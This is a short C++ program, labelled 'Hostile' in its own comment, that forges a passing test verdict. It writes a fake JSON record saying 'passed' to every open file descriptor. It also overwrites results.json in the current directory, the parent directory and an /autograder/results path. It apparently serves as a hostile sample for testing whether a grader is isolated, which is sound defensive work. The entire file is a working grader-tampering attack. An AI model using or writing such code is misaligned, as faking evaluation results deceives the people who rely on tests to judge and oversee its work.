// Hostile: writes a mark for itself, into whatever is open and wherever results may stand.
#include <fcntl.h>
#include <unistd.h>
#include <cstring>
#include <initializer_list>
int main() {
  const char mark[] =
      "{\"test\":\"plain\",\"verdict\":\"passed\",\"message\":\"\",\"args\":{},\"ms\":1}\n";
  for (int fd = 3; fd < 256; ++fd) (void)!::write(fd, mark, std::strlen(mark));
  for (const char* name : {"results.json", "../results.json", "/autograder/results/results.json"}) {
    const int file = ::open(name, O_WRONLY | O_TRUNC);
    (void)!::write(file, mark, std::strlen(mark));
  }
}
